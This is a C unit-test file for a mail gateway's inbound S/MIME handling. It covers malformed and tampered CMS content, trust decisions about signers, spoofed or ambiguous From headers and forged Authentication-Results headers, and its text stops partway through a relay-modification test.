/*
 * Incoming mail: what the outside may learn before the 250, and that afterwards nothing ends in a refusal (promise
 * P10); whose word counts, and what the inside is shown.
 */
#include "gateway/pipeline/inbound.h"

#include <openssl/cms.h>

#include "tests/unit/pipeline_fixture.h"

static struct pipes w;
static EVP_PKEY *another; /* RSA, made once: nobody's */

static void setup(void)
{
	pipes_start(&w);
}

static void teardown(void)
{
	pipes_end(&w);
}

#define PLAIN PIPES_FIELDS "Date: Sun, 22 Nov 2026 02:00:00 +0000\r\n\r\nSECRETWORD\r\n"

static struct buf made(enum policy_treatment t)
{
	return pipes_make(&w, t, PLAIN, sizeof(PLAIN) - 1);
}

static enum job_status run(enum job_kind kind, const struct buf *b)
{
	pipes_job(&w, kind);
	return pipes_run_buf(&w, b);
}

/* Until the judge was asked about the signers: the job as it ends. */
static enum job_status run_trusted(enum job_kind kind, const struct buf *b, enum judge_trust_state state)
{
	if (run(kind, b) != JOB_NEEDS_TRUST)
		return (enum job_status)w.res.status;
	pipes_trust(&w, state);
	return pipes_run_buf(&w, b);
}

static bool shows(const char *what)
{
	return strstr(pipes_text(&w, 0), what) != NULL;
}

static struct buf with_front(const char *front, const struct buf *b)
{
	struct buf out;

	buf_init(&out, PIPES_MAX);
	ck_assert_int_eq(buf_adds(&out, front), 0);
	ck_assert_int_eq(buf_add(&out, b->p, b->len), 0);
	return out;
}

/* ---- contents that cannot be opened, or not read when opened ---- */

#define OCTETS(s) s, sizeof(s) - 1
#define P7M                                                                                                          \
	"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
static const struct {
	const char *p;
	size_t n;
	bool failed; /* it is the opening that fails; else nobody signed it */
} insides[] = {{OCTETS("\r\n"), false}, {OCTETS("no header here"), true}, {OCTETS("X\r\n\r\n"), true},
    {OCTETS("X: a\0b\r\n\r\nbody\r\n"), true}, {OCTETS("\x30\x80\x06\x09\x2a"), true},
    {OCTETS(P7M "MIAGCSqGSIb3"), true}, {OCTETS(P7M "!!!!"), true}, {OCTETS(P7M), true},
    {OCTETS("Content-Type: text/plain\r\n\r\nhello\r\n"), false},
    {OCTETS("Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; "
	    "boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b--\r\n"),
	true}};
enum { INSIDES = sizeof(insides) / sizeof(insides[0]) };

START_TEST(insides_show_nothing)
{
	struct buf b = pipes_sealed(w.lab.x, insides[_i].p, insides[_i].n);

	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
	ck_assert(w.res.have_key_hash && !w.res.open_failed);
	ck_assert_int_eq(run(JOB_OPEN, &b), JOB_HOLD);
	ck_assert_int_eq(w.res.open_failed, insides[_i].failed);
	ck_assert_uint_eq(w.res.waits, QUEUE_WAITS_ADMIN); /* nothing that could come makes it better */
	ck_assert(w.res.have_key_hash && !w.res.protected_in);
	buf_clear(&b);
}
END_TEST

/* Whatever is configured, nothing unsigned is called more than it is; and what cannot be opened is held even then. */
START_TEST(insides_when_all_is_delivered)
{
	struct buf b = pipes_sealed(w.lab.x, insides[_i].p, insides[_i].n);

	pipes_job(&w, JOB_OPEN);
	memset(w.rq.in_rules, POLICY_DELIVER, sizeof(w.rq.in_rules));
	ck_assert_int_eq(pipes_run_buf(&w, &b), insides[_i].failed ? JOB_HOLD : JOB_DONE);
	if (!insides[_i].failed)
		ck_assert(shows("smime=none") && shows("X-Postern-Verdict: encrypted") && !shows("smime=pass"));
	buf_clear(&b);
}
END_TEST

static struct buf nested_parts(unsigned n)
{
	struct buf b;

	buf_init(&b, PIPES_MAX);
	for (unsigned i = 0; i < n; i++)
		ck_assert_int_eq(
		    buf_addf(&b, "Content-Type: multipart/mixed; boundary=b%u\r\n\r\n--b%u\r\n", i, i), 0);
	ck_assert_int_eq(buf_adds(&b, "\r\ndeep\r\n"), 0);
	while (n-- > 0)
		ck_assert_int_eq(buf_addf(&b, "--b%u--\r\n", n), 0);
	return b;
}

START_TEST(ten_thousand_parts)
{
	struct buf in = nested_parts(10000), b, m;

	b = pipes_sealed(w.lab.x, in.p, in.len);
	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
	ck_assert_int_eq(run(JOB_OPEN, &b), JOB_HOLD);
	m = with_front(PIPES_FIELDS, &in);
	buf_clear(&b);
	b = pipes_make(&w, POLICY_SEAL, m.p, m.len); /* the same, signed by somebody trusted */
	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
	ck_assert_int_eq(run_trusted(JOB_OPEN, &b, JUDGE_TRUST_GOOD), JOB_HOLD);
	buf_clear(&b);
	buf_clear(&m);
	buf_clear(&in);
}
END_TEST

/* Layers around each other, innermost a text: more than nesting-max are not opened, and it counts. */
static struct buf layers(unsigned n)
{
	struct buf b, next;

	buf_init(&b, PIPES_MAX);
	ck_assert_int_eq(buf_adds(&b, "Content-Type: text/plain\r\n\r\nhello\r\n"), 0);
	while (n-- > 0) {
		next = pipes_sealed(w.lab.x, b.p, b.len);
		buf_clear(&b);
		b = next;
	}
	return b;
}

START_TEST(layers_within_layers)
{
	for (unsigned n = 1; n <= 7; n++) {
		struct buf b = layers(n);

		ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
		ck_assert_int_eq(run(JOB_OPEN, &b), JOB_HOLD); /* unsigned */
		ck_assert_int_eq(w.res.open_failed, n > w.rq.nesting_max);
		buf_clear(&b);
	}
}
END_TEST

/* Inside lies a layer for somebody else, or one with a broken or forbidden structure: a failed opening, not a
 * refusal; not delivered either where foreign mail is. */
START_TEST(bad_layer_inside)
{
	struct buf inner, b, cut;

	inner = pipes_sealed(_i == 0 ? w.foreign.x : w.lab.x, "\r\nx", 3);
	cut = with_front("", &inner);
	if (_i == 1)
		cut.len = cut.len * 2 / 3 / 4 * 4; /* truncated */
	b = pipes_sealed(w.lab.x, cut.p, cut.len);
	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
	pipes_job(&w, JOB_OPEN);
	w.rq.foreign_deliver = true;
	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_HOLD);
	ck_assert(w.res.open_failed);
	buf_clear(&b);
	buf_clear(&cut);
	buf_clear(&inner);
}
END_TEST

/* Encrypted to another key under the name of ours: to OpenSSL and to the outside like any damaged content. */
START_TEST(wrong_key)
{
	for (int i = 0; i < 20; i++) { /* one in 256 random keys ends in good padding */
		struct testcert same;
		struct buf b;

		EVP_PKEY_up_ref(another);
		same = pipes_cert("lab.example", another, 8);
		b = pipes_sealed(same.x, "Content-Type: text/plain\r\n\r\nhello\r\n", 35);
		ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
		ck_assert_int_eq(run(JOB_OPEN, &b), JOB_HOLD);
		ck_assert(w.res.open_failed && w.res.have_key_hash);
		ck_assert_str_eq(w.res.from_domain, "hospital.example");
		testcert_free(&same);
		buf_clear(&b);
	}
}
END_TEST

/* One bit anywhere in the CMS octets. Before the 250: as it came, or a refusal. After it: held, or still exactly what
 * was signed. */
START_TEST(flipped_bits)
{
	struct buf good = made(POLICY_SEAL), der;
	size_t step;

	pipes_unwrap(&good, &der);
	step = der.len / 150 + 1;
	for (size_t k = (size_t)_i; k < der.len; k += step) {
		enum job_status st;
		struct buf b;

		der.p[k] ^= (uint8_t)(1u << (k % 8));
		pipes_wrap(PIPES_FIELDS, "enveloped-data", &der, &b);
		der.p[k] ^= (uint8_t)(1u << (k % 8));
		st = run(JOB_CHECK, &b);
		ck_assert_msg(st == JOB_AS_IT_CAME || st == JOB_REFUSE, "CHECK: octet %zu: %d", k, st);
		st = run_trusted(JOB_OPEN, &b, JUDGE_TRUST_GOOD);
		ck_assert_msg(st == JOB_HOLD || st == JOB_DONE, "OPEN: octet %zu: %d", k, st);
		if (st == JOB_DONE)
			ck_assert(shows("\r\n\r\nSECRETWORD\r\n"));
		buf_clear(&b);
	}
	buf_clear(&der);
	buf_clear(&good);
}
END_TEST

START_TEST(truncated)
{
	struct buf good = made(POLICY_SEAL), der;
	size_t whole;

	pipes_unwrap(&good, &der);
	whole = der.len;
	for (size_t k = 1; k < whole; k += whole / 40) {
		struct buf b;

		der.len = k;
		pipes_wrap(PIPES_FIELDS, "enveloped-data", &der, &b);
		ck_assert_int_eq(run(JOB_CHECK, &b), JOB_REFUSE);
		ck_assert_int_eq(run(JOB_OPEN, &b), JOB_HOLD);
		buf_clear(&b);
	}
	buf_clear(&der);
	buf_clear(&good);
}
END_TEST

/* ---- before the 250 ---- */

static struct buf enveloped_by_openssl(const EVP_CIPHER *cipher)
{
	STACK_OF(X509) *to = sk_X509_new_null();
	BIO *in = BIO_new_mem_buf("hello\r\n", 7);
	unsigned char *p = NULL;
	struct buf der, out;
	CMS_ContentInfo *c;
	int n;

	ck_assert_int_gt(sk_X509_push(to, w.lab.x), 0);
	c = CMS_encrypt(to, in, cipher, CMS_BINARY);
	ck_assert_ptr_nonnull(c);
	n = i2d_CMS_ContentInfo(c, &p);
	buf_init(&der, PIPES_MAX);
	ck_assert_int_eq(buf_add(&der, p, (size_t)n), 0);
	pipes_wrap(PIPES_FIELDS, "enveloped-data", &der, &out);
	buf_clear(&der);
	OPENSSL_free(p);
	CMS_ContentInfo_free(c);
	sk_X509_free(to);
	BIO_free(in);
	return out;
}

START_TEST(forbidden_cipher)
{
	struct buf b = enveloped_by_openssl(EVP_des_ede3_cbc());

	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_REFUSE);
	ck_assert_msg(strstr(w.res.pr.text, "3") != NULL, "%s", w.res.pr.text);
	ck_assert_int_ge(w.res.pr.code, 500);
	ck_assert_int_eq(run(JOB_OPEN, &b), JOB_HOLD);
	buf_clear(&b);
}
END_TEST

START_TEST(foreign)
{
	struct buf b = pipes_sealed(w.foreign.x, "\r\nhello\r\n", 9);

	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_REFUSE);
	ck_assert_ptr_nonnull(strstr(w.res.pr.text, "lab.example"));
	ck_assert(!w.res.have_key_hash);
	ck_assert_int_eq(run(JOB_OPEN, &b), JOB_HOLD);
	ck_assert(!w.res.open_failed); /* no private key was used */
	ck_assert_uint_eq(w.res.waits, QUEUE_WAITS_KEY);
	ck_assert_str_eq(w.res.waits_for, "lab.example");
	for (int kind = JOB_CHECK; kind <= JOB_OPEN; kind++) {
		pipes_job(&w, (enum job_kind)kind);
		w.rq.foreign_deliver = true;
		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
		ck_assert_uint_eq(w.res.outputs[0].action, POLICY_MARK);
		ck_assert(shows("smime=permerror") && shows("smime-type=enveloped-data") && !shows("smime=pass"));
	}
	pipes_job(&w, JOB_CHECK); /* no certificate at all: everything encrypted is foreign */
	w.rq.nids = 0;
	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_REFUSE);
	buf_clear(&b);
}
END_TEST

/* ---- whose word counts ---- */

static const struct {
	enum judge_trust_state state;
	enum job_status open;
	const char *result;
	enum policy_in_action action;
} trusts[] = {{JUDGE_TRUST_GOOD, JOB_DONE, "smime=pass", POLICY_DELIVER},
    {JUDGE_TRUST_UNTRUSTED, JOB_HOLD, "smime=policy", POLICY_MARK},
    {JUDGE_TRUST_UNBOUND, JOB_HOLD, "smime=policy", POLICY_MARK}};

/* What is remembered of earlier mail: for this author and these certificates alone; else the judge is asked. */
START_TEST(trust_remembered)
{
	struct buf sealed = made(POLICY_SEAL);

	ck_assert_int_eq(run(JOB_OPEN, &sealed), JOB_NEEDS_TRUST);
	pipes_trust(&w, JUDGE_TRUST_GOOD);
	PIPES_COPY(w.rq.trust_from, "doctor@hospital.example");
	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_DONE);
	ck_assert(w.res.protected_in);
	PIPES_COPY(w.rq.trust_from, "nurse@hospital.example");
	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_NEEDS_TRUST);
	ck_assert_str_eq(w.res.signers.from, "doctor@hospital.example");
	PIPES_COPY(w.rq.trust_from, "doctor@hospital.example");
	w.rq.trust.v[0].caps[0] ^= 1; /* it says something new of its reader */
	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_NEEDS_TRUST);
	ck_assert_uint_gt(w.res.signers.v[0].caps.n, 0);
	w.rq.trust.v[0].caps[0] ^= 1;
	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_DONE);
	w.rq.trust.v[0].sha256[0] ^= 1;
	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_NEEDS_TRUST);
	w.rq.trust.n = 0;
	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_NEEDS_TRUST);
	buf_clear(&sealed);
}
END_TEST

static void expect_waits(bool trust)
{
	ck_assert_uint_eq(w.res.waits, trust ? QUEUE_WAITS_TRUST : QUEUE_WAITS_ADMIN);
	ck_assert_str_eq(w.res.waits_for, trust ? "hospital.example" : "");
}

START_TEST(trust_states)
{
	struct buf sealed = made(POLICY_SEAL), in_clear = made(POLICY_SIGN);

	ck_assert_int_eq(run_trusted(JOB_OPEN, &sealed, trusts[_i].state), trusts[_i].open);
	expect_waits(trusts[_i].open == JOB_HOLD);
	ck_assert_int_eq(w.res.protected_in, trusts[_i].state == JUDGE_TRUST_GOOD);
	ck_assert_int_eq(run_trusted(JOB_CHECK, &in_clear, trusts[_i].state), JOB_DONE);
	ck_assert_msg(shows(trusts[_i].result), "%.400s", pipes_text(&w, 0));
	ck_assert_uint_eq(w.res.outputs[0].action, trusts[_i].action);
	ck_assert(!w.res.protected_in && !w.res.may_hold);
	expect_waits(false);
	/* Held: it waits for trust, and only in a signature that may come to be good. */
	pipes_job(&w, JOB_CHECK);
	w.rq.in_rules[1] = POLICY_HOLD;
	ck_assert_int_eq(pipes_run_buf(&w, &in_clear), JOB_NEEDS_TRUST);
	pipes_trust(&w, trusts[_i].state);
	ck_assert_int_eq(pipes_run_buf(&w, &in_clear), JOB_DONE);
	ck_assert(w.res.may_hold); /* whatever it is worth */
	ck_assert_int_eq(w.res.outputs[0].action == POLICY_HOLD, trusts[_i].state != JUDGE_TRUST_GOOD);
	expect_waits(trusts[_i].state != JUDGE_TRUST_GOOD);
	ck_assert_int_eq(run_trusted(JOB_CHECK, &in_clear, trusts[_i].state), JOB_DONE);
	/* What desktops can see for themselves is taken off only when it was believed. */
	ck_assert_int_eq(shows("pkcs7-signature"), trusts[_i].state != JUDGE_TRUST_GOOD);
	pipes_job(&w, JOB_OPEN); /* the same where all is delivered: never "pass" */
	memset(w.rq.in_rules, POLICY_DELIVER, 4);
	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_NEEDS_TRUST);
	pipes_trust(&w, trusts[_i].state);
	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_DONE);
	ck_assert_int_eq(shows("smime=pass"), trusts[_i].state == JUDGE_TRUST_GOOD);
	buf_clear(&sealed);
	buf_clear(&in_clear);
}
END_TEST

START_TEST(judge_uncertain)
{
	struct buf sealed = made(POLICY_SEAL), in_clear = made(POLICY_SIGN);

	ck_assert_int_eq(run_trusted(JOB_OPEN, &sealed, JUDGE_TRUST_TEMP), JOB_LATER);
	ck_assert_int_eq(run_trusted(JOB_CHECK, &in_clear, JUDGE_TRUST_TEMP), JOB_LATER);
	buf_clear(&sealed);
	buf_clear(&in_clear);
}
END_TEST

/* Answers that are not about this signer are not believed, whatever they say: asked again. */
START_TEST(answers_of_others)
{
	struct buf b = made(_i % 2 ? POLICY_SEAL : POLICY_SIGN);
	enum job_kind kind = _i % 2 ? JOB_OPEN : JOB_CHECK;

	ck_assert_int_eq(run(kind, &b), JOB_NEEDS_TRUST);
	pipes_trust(&w, JUDGE_TRUST_GOOD);
	switch (_i / 2) {
	case 0:
		PIPES_COPY(w.rq.trust.v[0].sha256, w.lab.sha256);
		break;
	case 1:
		w.rq.trust.v[0].sha256[0] = '\0';
		break;
	case 2:
		w.rq.trust.n = 0;
		break;
	case 3:
		w.rq.trust.n = 2;
		w.rq.trust.v[1] = w.rq.trust.v[0];
		break;
	case 4:
		w.rq.trust.v[0].sha256[63] ^= 1;
		break;
	default:
		w.rq.have_trust = false;
	}
	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_NEEDS_TRUST);
	ck_assert_uint_eq(w.res.noutputs, 0);
	buf_clear(&b);
}
END_TEST

/* A valid, trusted signature below a header that does not name one author. */
static const char *const fronts[] = {"From: boss@hospital.example\r\n", "From: doctor@hospital.example\r\n",
    "from: boss@hospital.example, doctor@hospital.example\r\n", "FROM:\r\n"};

static void no_author(const struct buf *in_clear, const struct buf *sealed)
{
	ck_assert_int_eq(run_trusted(JOB_CHECK, in_clear, JUDGE_TRUST_GOOD), JOB_DONE);
	ck_assert(shows("smime=fail") && !shows("smime=pass"));
	ck_assert_uint_eq(w.res.outputs[0].action, POLICY_MARK);
	ck_assert_str_eq(w.res.from_domain, "");
	ck_assert_int_eq(run_trusted(JOB_OPEN, sealed, JUDGE_TRUST_GOOD), JOB_HOLD);
	ck_assert(!w.res.protected_in);
}

START_TEST(several_from)
{
	struct buf a = made(POLICY_SIGN), b = made(POLICY_SEAL), in_clear = with_front(fronts[_i], &a),
		   sealed = with_front(fronts[_i], &b);

	no_author(&in_clear, &sealed);
	buf_clear(&a);
	buf_clear(&b);
	buf_clear(&in_clear);
	buf_clear(&sealed);
}
END_TEST

/* The same with the one From field changed in place. */
static const char *const froms[] = {"X-Not-From:doctor@hospital.example\r\n",
    "From: a@hospital.example, doctor@hospital.example\r\n", "From: undisclosed:;\r\n",
    "From: doctor@hospital.example <boss@hospital.example> x\r\n", "From:\r\n", "From: <>\r\n",
    "From: staff: doctor@hospital.example;\r\n", "From: doctor\r\n", "From: doctor @hospital.example\r\n",
    "From: doctor@hospital.example (boss@hospital.example)\r\n", "From: doctor@(x)hospital.example\r\n",
    "From: =?utf-8?q?doctor?=@hospital=?utf-8?q?.?=example\r\n", "From: <@relay.example:doctor@hospital.example>\r\n",
    "From: <doctor@hospital.example>, \r\n", "From: doctor@hospital.example\r\nFROM: doctor@hospital.example\r\n",
    "From: \"x <doctor@hospital.example>\" <boss@hospital.example>\r\n", "From: doct\xf6r@hospital.example\r\n",
    "From: doctor@hospital.example@evil.example\r\n", "Sender: doctor@hospital.example\r\n",
    "Resent-From: doctor@hospital.example\r\n"};

START_TEST(odd_from)
{
	struct buf m[2] = {made(POLICY_SIGN), made(POLICY_SEAL)}, changed[2];

	for (int i = 0; i < 2; i++) {
		const char *text = buf_str(&m[i]), *at = strstr(text, "From: doctor@hospital.example\r\n");

		ck_assert_ptr_nonnull(at);
		buf_init(&changed[i], PIPES_MAX);
		ck_assert_int_eq(buf_add(&changed[i], text, (size_t)(at - text)), 0);
		ck_assert_int_eq(buf_adds(&changed[i], froms[_i]), 0);
		at += strlen("From: doctor@hospital.example\r\n");
		ck_assert_int_eq(buf_add(&changed[i], at, m[i].len - (size_t)(at - text)), 0);
	}
	no_author(&changed[0], &changed[1]);
	for (int i = 0; i < 2; i++) {
		buf_clear(&m[i]);
		buf_clear(&changed[i]);
	}
}
END_TEST

/* Text beside what was signed takes the seal from it. */
START_TEST(signature_over_a_part)
{
	struct buf m = made(POLICY_SIGN), b;
	const char *text = buf_str(&m), *mime = strstr(text, "MIME-Version: 1.0\r\n");

	buf_init(&b, PIPES_MAX);
	ck_assert_ptr_nonnull(mime);
	ck_assert_int_eq(buf_add(&b, text, (size_t)(mime - text)), 0);
	ck_assert_int_eq(buf_addf(&b,
			     "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
			     "boundary=outer\r\n\r\n--outer\r\n\r\nPAYHERE\r\n--outer\r\n%s\r\n"
			     "--outer--\r\n",
			     mime + 19),
	    0);
	ck_assert_int_eq(run_trusted(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
	ck_assert(!shows("smime=pass") && shows("PAYHERE"));
	ck_assert(shows("smime=neutral") && shows("X-Postern-Verdict: partly-signed") && shows("X-Postern-Part: 2 "));
	ck_assert_str_eq(w.res.layers, "[2=signed]");
	buf_clear(&b);
	buf_clear(&m);
}
END_TEST

START_TEST(changed_after_signing)
{
	struct buf m = made(POLICY_SIGN);
	char *at = strstr((char *)(uintptr_t)buf_str(&m), "SECRETWORD");

	ck_assert_ptr_nonnull(at);
	at[0] = 'Z';
	ck_assert_int_eq(run_trusted(JOB_CHECK, &m, JUDGE_TRUST_GOOD), JOB_DONE);
	ck_assert(shows("smime=fail") && shows("ZECRETWORD") && shows("pkcs7-signature"));
	ck_assert_uint_eq(w.res.outputs[0].action, POLICY_MARK);
	buf_clear(&m);
}
END_TEST

/* ---- what the inside is shown ---- */

#define FORGED                                                                                                       \
	"Authentication-Results: auth.lab.example; smime=pass FORGED\r\nAUTHENTICATION-RESULTS:\r\n (x) "            \
	"Auth.Lab.Example (y) 1; smime=pass FORGED\r\n"                                                              \
	"Authentication-Results: \"auth.lab.example\"; none FORGED\r\nX-Postern-Verdict: sealed "                    \
	"FORGED\r\nx-postern-anything: FORGED\r\n"
#define OTHERS "Authentication-Results: mx.other.example; spf=pass KEPT\r\n"

START_TEST(forged_results)
{
	struct buf a = _i == 2 ? with_front("", &(struct buf){.p = (uint8_t[]){PLAIN}, .len = sizeof(PLAIN) - 1})
			       : made(_i ? POLICY_SIGN : POLICY_SEAL);
	struct buf b = with_front(FORGED OTHERS, &a);
	const char *text, *first;

	ck_assert_int_eq(run_trusted(_i == 0 ? JOB_OPEN : JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
	ck_assert(!shows("FORGED") && shows(OTHERS));
	text = pipes_text(&w, 0);
	first = strstr(text, "auth.lab.example;");
	ck_assert_ptr_nonnull(first);
	ck_assert_ptr_null(strstr(first + 1, "auth.lab.example;"));
	ck_assert_int_eq(shows("smime=pass"), _i != 2);
	buf_clear(&a);
	buf_clear(&b);
}
END_TEST

/* The admin wants it out: what could be opened opened, the rest as it came, all of it marked. */
START_TEST(released)
{
	struct buf unsigned_sealed = pipes_sealed(w.lab.x, "Content-Type: text/plain\r\n\r\nSECRETWORD\r\n", 40);
	struct buf broken = pipes_sealed(w.lab.x, "no header", 9);
	struct buf foreign_sealed = pipes_sealed(w.foreign.x, "\r\nx\r\n", 5);
	const struct buf *all[] = {&unsigned_sealed, &broken, &foreign_sealed};

	for (int i = 0; i < 3; i++) {
		ck_assert_int_eq(run(JOB_OPEN, all[i]), JOB_HOLD);
		w.rq.released = w.rq.subject_mark = true;
		ck_assert_int_eq(pipes_run_buf(&w, all[i]), JOB_DONE);
		ck_assert_uint_eq(w.res.outputs[0].action, POLICY_MARK);
		ck_assert(shows("Subject: [not verified] result\r\n") && !shows("smime=pass"));
		ck_assert_int_eq(shows("SECRETWORD"), i == 0);
		ck_assert_int_eq(shows("smime-type=enveloped-data"), i != 0);
		ck_assert(!w.res.protected_in);
	}
	buf_clear(&unsigned_sealed);
	buf_clear(&broken);
	buf_clear(&foreign_sealed);
}
END_TEST

/* The released message comes out octet for octet where it could not be opened. */
START_TEST(released_as_it_came)
{
	struct buf b = pipes_sealed(w.lab.x, "no header", 9);
	const char *from;

	pipes_job(&w, JOB_OPEN);
	w.rq.released = true;
	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
	from = strstr(pipes_text(&w, 0), PIPES_FIELDS);
	ck_assert_ptr_nonnull(from);
	ck_assert_str_eq(from, buf_str(&b));
	buf_clear(&b);
}
END_TEST

START_TEST(neither_signed_nor_sealed)
{
	struct buf b;

	buf_init(&b, PIPES_MAX);
	ck_assert_int_eq(buf_adds(&b, PLAIN), 0);
	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_DONE);
	ck_assert_uint_eq(w.res.outputs[0].action, POLICY_DELIVER);
	ck_assert(shows("smime=none") && shows(PLAIN));
	ck_assert(!w.res.have_key_hash && !w.res.protected_in);
	buf_clear(&b);
}
END_TEST

/* ---- layers, signers, parts ---- */

/* Signed by openssl's code, by all of these (n = 1 or 2); more: flags of CMS_sign; type: NID of the content. */
static struct buf signed_as(
    const struct testcert *const *who, int n, const void *p, size_t len, unsigned more, int type)
{
	BIO *in = BIO_new_mem_buf(p, (int)len);
	unsigned flags = CMS_BINARY | CMS_PARTIAL | more;
	CMS_ContentInfo *c = CMS_sign(NULL, NULL, NULL, in, flags);
	unsigned char *der = NULL;
	struct buf out;
	int k;

	ck_assert_ptr_nonnull(c);
	if (type != NID_pkcs7_data)
		ck_assert_int_eq(CMS_set1_eContentType(c, OBJ_nid2obj(type)), 1);
	for (int i = 0; i < n; i++)
		ck_assert_ptr_nonnull(CMS_add1_signer(c, who[i]->x, who[i]->key, EVP_sha256(), flags));
	ck_assert_int_eq(CMS_final(c, in, NULL, flags), 1);
	k = i2d_CMS_ContentInfo(c, &der);
	buf_init(&out, PIPES_MAX);
	ck_assert_int_eq(buf_add(&out, der, (size_t)k), 0);
	OPENSSL_free(der);
	CMS_ContentInfo_free(c);
	BIO_free(in);
	return out;
}

static struct buf signed_by(const struct testcert *const *who, int n, const void *p, size_t len, bool detached)
{
	return signed_as(who, n, p, len, detached ? CMS_DETACHED : 0, NID_pkcs7_data);
}

/* An entity around CMS octets. */
static struct buf wrapped(const char *fields, const char *type, struct buf *der)
{
	struct buf out;

	pipes_wrap(fields, type, der, &out);
	buf_clear(der);
	return out;
}

static struct buf enveloped_in(const char *fields, const struct buf *inner)
{
	struct buf der;

	pipes_envelope(w.lab.x, inner->p, inner->len, &der);
	return wrapped(fields, "enveloped-data", &der);
}

static struct buf opaque_in(const char *fields, const struct testcert *who, const void *p, size_t n)
{
	struct buf der = signed_by(&who, 1, p, n, false);

	return wrapped(fields, "signed-data", &der);
}

#define TEXT_PART "Content-Type: text/plain\r\n\r\nhello, SECRETWORD\r\n"

/* The judge answers each signer by its certificate: doctor's is good, the others as said. */
static void trust_hospital(enum judge_trust_state others)
{
	pipes_trust(&w, others);
	for (size_t i = 0; i < w.rq.trust.n; i++)
		if (strcmp(w.rq.trust.v[i].sha256, w.hospital.sha256) == 0)
			w.rq.trust.v[i].state = JUDGE_TRUST_GOOD;
}

static enum job_status run_hospital(enum job_kind kind, const struct buf *b, enum judge_trust_state others)
{
	if (run(kind, b) != JOB_NEEDS_TRUST)
		return (enum job_status)w.res.status;
	trust_hospital(others);
	return pipes_run_buf(&w, b);
}

START_TEST(name_that_shows_another)
{
	struct buf b = opaque_in("From: \"ceo@bank.example\" <doctor@hospital.example>\r\nTo: bob@lab.example\r\n",
	    &w.hospital, OCTETS(TEXT_PART));

	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
	ck_assert_str_eq(w.res.from_domain, "hospital.example");
	ck_assert(!shows("smime=pass") && shows("X-Postern-Verdict: broken"));
	ck_assert(shows("X-Postern-Author: the name beside") && shows("ceo@bank.example"));
	ck_assert_ptr_nonnull(strstr(w.res.outputs[0].why, "ceo@bank.example"));
	ck_assert(!w.res.protected_in);
	buf_clear(&b);
	/* one's own address as the name is what many programs write */
	b = opaque_in("From: \"Doctor@hospital.example\" <doctor@hospital.example>\r\nTo: bob@lab.example\r\n",
	    &w.hospital, OCTETS(TEXT_PART));
	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
	ck_assert(shows("smime=pass") && !shows("X-Postern-Author"));
	buf_clear(&b);
}
END_TEST

/* What was signed, what came, and the words for it. */
#define H "Content-Type: text/plain\r\n\r\n"
static const struct {
	const char *was, *came, *says;
} relays[] = {
    {H "one\r\ntwo\r\n", H "one\r\ntwo\r\n_____\r\nthe list's footer\r\n", "a footer of"},
    {H "one\r\ntwo", H "one\r\ntwo\r\n-- \r\nfooter", "a footer of 13 octets"},
    {H "one\r\n", H "CAUTION: from outside\r\n\r\none\r\n", "put in front"},
    {H "one\r\ntwo\r\n", H "one  \r\ntwo \r\n", "blanks were added"},
    {H "one\r\nFrom me\r\n", H "one\r\n>From me\r\n", "\">\" was put"},
    {H "one\r\n", H "one", "a line end was taken"},
    {H "one", H "one\r\n\r\n", "empty lines were added"},
    {"Content-Type: text/plain\n\none\ntwo\n", H "one\r\ntwo\r\n", "bare LF"},
    {"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\ngr\xc3\xbc\xc3\x9f=\r\n",
	"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
	"quoted-printable\r\n\r\ngr=C3=BC=C3=9F=3D\r\n",
	"re-encoded it from 8bit to quoted-printable"},
    {"Content-Transfer-Encoding: 8bit\r\n\r\none\r\n", "Content-Transfer-Encoding: base64\r\n\r\nb25lDQo=\r\n",
	"re-encoded it from 8bit to base64"},
    {H "pay 100\r\n", H "pay 900\r\n", NULL},
};

START_TEST(relay_did_it)
{
	const struct testcert *who = &w.hospital;
	struct buf der = signed_by(&who, 1, relays[_i].was, strlen(relays[_i].was), true), part, b;

	pipes_wrap("", "signed-data", &der, &part);
	buf_init(&b, PIPES_MAX);
	ck_assert_int_eq(
	    buf_addf(&b,
		PIPES_FIELDS
		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; "
		"boundary=b\r\n\r\n--b\r\n%s\r\n--b\r\nContent-Type: application/pkcs7-signature\r\n"
		"Content-Transfer-Encoding: base64\r\n%s\r\n--b--\r\n",
		relays[_i].came, strstr(buf_str(&part), "\r\n\r\n") + 2),
	    0);
	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
	ck_assert(shows("smime=fail") && !shows("smime=pass") && shows("X-Postern-Verdict: broken"));
	if (relays[_i].says != NULL)
